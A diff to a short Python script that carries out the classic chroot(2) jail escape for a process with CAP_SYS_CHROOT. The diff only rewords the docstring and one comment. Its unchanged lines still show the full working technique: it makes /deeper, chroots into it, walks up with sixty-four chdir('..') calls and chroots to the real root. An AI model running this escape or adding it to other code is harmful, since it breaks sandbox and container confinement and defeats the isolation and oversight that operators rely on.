@@ -1,4 +1,4 @@
-"""The oldest escape from a chroot(2), for a process with CAP_SYS_CHROOT.
+"""The classic escape from chroot(2), for a process with CAP_SYS_CHROOT.
 
 chroot(2) changes the root directory, not the working directory. After a second chroot below the
 first root, the working directory is outside of it, and from there ".." leads up to the real root.
@@ -9,7 +9,7 @@ import sys
 
 os.chdir("/")
 os.makedirs("/deeper", exist_ok=True)
-os.chroot("/deeper")  # "/" is deeper now than where we stand
+os.chroot("/deeper")  # the working directory is now outside "/"
 for _ in range(64):
     os.chdir("..")
 os.chroot(".")
